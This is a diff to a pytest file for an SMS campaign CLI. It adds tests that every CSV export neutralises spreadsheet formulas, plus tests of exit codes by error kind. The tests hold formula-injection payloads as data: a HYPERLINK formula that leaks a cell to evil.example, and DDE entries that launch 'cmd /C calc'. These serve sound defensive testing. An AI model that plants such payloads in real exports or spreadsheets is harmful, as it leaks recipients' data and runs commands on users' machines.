@@ -26,6 +26,7 @@ COMMANDS = [
     "recharge",
     "replies",
     "report",
+    "review",
     "sandbox",
     "send",
     "unbind",
@@ -98,7 +99,7 @@ def test_check_sample_data(capsys: pytest.CaptureFixture[str], tmp_path: Path) -
     assert "ok" in out and "invalid" in out and "duplicate" in out
     text = out_csv.read_text(encoding="utf-8-sig")
     header = text.splitlines()[0].split(",")
-    assert header[-5:] == ["mobile", "status", "reason", "carrier", "region"]
+    assert header[-7:] == ["mobile", "status", "reason", "carrier", "region", "city", "area_code"]
 
 
 def test_plan_sample_data(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
@@ -145,7 +146,11 @@ def test_send_sandbox_with_report_then_report_journal(
     out = capsys.readouterr().out
     assert "accepted" in out and str(again) in out
     rebuilt = openpyxl.load_workbook(again)
-    assert rebuilt["概览"]["C2"].value == book["概览"]["C2"].value  # same accepted count
+
+    def accepted(workbook: openpyxl.Workbook) -> int:  # 概览's summary row for accepted
+        return next(r[2] for r in workbook["概览"].iter_rows(values_only=True) if r[1] == "accepted")
+
+    assert accepted(rebuilt) == accepted(book) > 0  # same accepted count
 
     assert main(["report", str(journal)]) == 0  # default: beside the journal
     assert (tmp_path / "spring-report.xlsx").is_file()
@@ -169,3 +174,174 @@ def test_sandbox_command_serves_until_stopped() -> None:
         process.terminate()
         process.wait(timeout=10)
     assert process.returncode == 0
+
+
+# -- CSV written by the CLI never runs formulas (issue 16, item 4) -------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点此退订")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _cells(path: Path) -> list[str]:
+    import csv
+
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def _assert_inert(path: Path) -> list[str]:
+    import re
+
+    cells = _cells(path)
+    assert cells, path
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
+            assert re.fullmatch(r"[+-]\d+(\.\d+)?", cell), (path.name, cell)
+    return cells
+
+
+def test_every_csv_output_neutralises_formulas(
+    tmp_path: Path, sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import pandas as pd
+
+    from tests.conftest import PASSWORD, USER
+
+    mobiles = ["13800138000", "13900139000", "15000150000", "15100151000", "15200152000", "15300153000"]
+    recipients = tmp_path / "hostile.csv"
+    pd.DataFrame({"姓名": HOSTILE, "手机号码": mobiles, "=备注": ["x"] * 6}).to_csv(
+        recipients, index=False
+    )
+    numbers = tmp_path / "numbers.csv"
+    pd.DataFrame({"手机号码": ["+8613800138000", "=1+2", "13900139000"]}).to_csv(numbers, index=False)
+    outs = {name: tmp_path / f"{name}.csv" for name in ("check", "plan", "bind", "unbind", "replies")}
+    assert main(["check", str(recipients), "--out", str(outs["check"])]) == 0
+    assert (
+        main(["plan", str(recipients), "--template", "{姓名}您好【店】", "--out", str(outs["plan"])])
+        == 0
+    )
+    assert main(["bind", str(numbers), "--sandbox", "--no-progress", "--out", str(outs["bind"])]) in (
+        0,
+        1,
+    )
+    assert main(
+        ["unbind", str(numbers), "--sandbox", "--no-progress", "--out", str(outs["unbind"])]
+    ) in (
+        0,
+        1,
+    )
+    # Replies: anyone who can text the number controls their content.
+    monkeypatch.setenv("SMSCAMPAIGN_USERNAME", USER)
+    monkeypatch.setenv("SMSCAMPAIGN_PASSWORD", PASSWORD)
+    monkeypatch.setenv("SMSCAMPAIGN_BASE_URL", sandbox.url)
+    with sandbox.gateway(USER, PASSWORD) as gw:
+        gw.bind_mobile(mobiles)
+    for mobile, text in zip(mobiles, HOSTILE, strict=True):
+        assert sandbox.reply(mobile, text, USER)
+    store = tmp_path / "replies.sqlite"
+    assert main(["replies", "--store", str(store), "--out", str(outs["replies"])]) == 0
+    opt_out_csv = tmp_path / "opt-outs.csv"
+    assert main(["opt-outs", "--store", str(store), "--out", str(opt_out_csv)]) == 0
+    capsys.readouterr()
+
+    for path in [*outs.values(), opt_out_csv]:
+        _assert_inert(path)
+    for name in ("check", "plan", "replies"):
+        cells = _cells(outs[name])
+        assert "'" + HOSTILE[0] in cells or any(c.startswith("'" + HOSTILE[0]) for c in cells), name
+        assert "'-2+3" in cells or any(c.startswith("'-2+3") for c in cells), name
+    assert "'=备注" in _cells(outs["check"])  # column names from the file too
+    # The data is otherwise intact: the prefix is the only change, and numbers keep their form.
+    replies = _cells(outs["replies"])
+    # (XML turns the CR of a fetched reply into LF; a leading LF is neutralised too)
+    assert "'\t=1+1" in replies and ("'\r=1+1" in replies or "'\n=1+1" in replies)
+    assert "+8613800138000" in _cells(outs["bind"]) and "'=1+2" in _cells(outs["bind"])
+
+
+def test_csv_safe_does_not_mutate_and_keeps_types() -> None:
+    import pandas as pd
+
+    from smscampaign.cli import csv_safe
+
+    frame = pd.DataFrame(
+        {"t": pd.array(["=1", None, "ok"], dtype="string"), "n": [-1, 2, 3], "o": ["@x", "+86 138", "-"]}
+    )
+    before = frame.copy()
+    safe = csv_safe(frame)
+    pd.testing.assert_frame_equal(frame, before)
+    assert safe["t"].tolist()[0] == "'=1" and pd.isna(safe["t"].iloc[1]) and safe["t"].dtype == "string"
+    assert safe["n"].tolist() == [-1, 2, 3]
+    assert safe["o"].tolist() == ["'@x", "'+86 138", "'-"]
+
+
+# -- exit codes by error kind (issue 11, item 4) ----------------------------------------------------
+
+
+def test_report_of_a_file_that_is_not_a_journal_exits_2(tmp_path: Path, capsys) -> None:
+    bogus = tmp_path / "notajournal.csv"
+    bogus.write_text("a,b\n1,2\n", encoding="utf-8")
+    assert main(["report", str(bogus)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "journal" in err and "Traceback" not in err
+
+
+def test_exit_codes_by_error_kind() -> None:
+    import smscampaign as sc
+    from smscampaign.cli import exit_code
+
+    assert exit_code(sc.ConfigError("x")) == 2
+    assert exit_code(sc.RecipientsError("x")) == 2
+    assert exit_code(sc.JournalError("x")) == 2
+    assert exit_code(sc.GatewayProtocolError("x")) == 1  # the gateway's fault, not the user's
+    assert exit_code(sc.AccountError("x", code=-103)) == 1
+    assert exit_code(FileNotFoundError("x")) == 2
+    assert exit_code(ValueError("a bug")) is None
+    assert exit_code(KeyError("a bug")) is None
+
+
+def test_a_broken_gateway_answer_exits_1_and_says_gateway(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
+) -> None:
+    from tests.test_gateway import http, scripted_server
+
+    def answer(request: bytes, sock, stop) -> None:
+        sock.sendall(http(b"<html><result>1</result></html>"))
+
+    with scripted_server(answer) as (url, _):
+        monkeypatch.setenv("SMSCAMPAIGN_USERNAME", "u")
+        monkeypatch.setenv("SMSCAMPAIGN_PASSWORD", "p")
+        monkeypatch.setenv("SMSCAMPAIGN_BASE_URL", url)
+        assert main(["balance"]) == 1
+    err = capsys.readouterr().err
+    assert "gateway error" in err and ("root element" in err or "not the gateway's XML" in err)
+
+
+def test_unreachable_sandbox_url_is_named(monkeypatch: pytest.MonkeyPatch, capsys) -> None:
+    from tests.test_gateway import free_port
+
+    url = f"http://127.0.0.1:{free_port()}"
+    monkeypatch.setenv("SMSCAMPAIGN_USERNAME", "u")
+    monkeypatch.setenv("SMSCAMPAIGN_PASSWORD", "p")
+    monkeypatch.setenv("SMSCAMPAIGN_BASE_URL", url)
+    assert main(["balance"]) == 1
+    err = capsys.readouterr().err
+    assert url in err and "sandbox is running" in err
+
+
+def test_a_real_bug_shows_its_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
+    import smscampaign.cli as cli
+
+    def broken(args) -> int:
+        raise ValueError("a bug, not the user's mistake")
+
+    parser = cli.build_parser()
+    monkeypatch.setattr(cli, "build_parser", lambda: parser)
+    parser._subparsers._group_actions[0].choices["check"].set_defaults(func=broken)  # type: ignore[union-attr]
+    with pytest.raises(ValueError, match="a bug"):
+        cli.main(["check", "x.csv"])
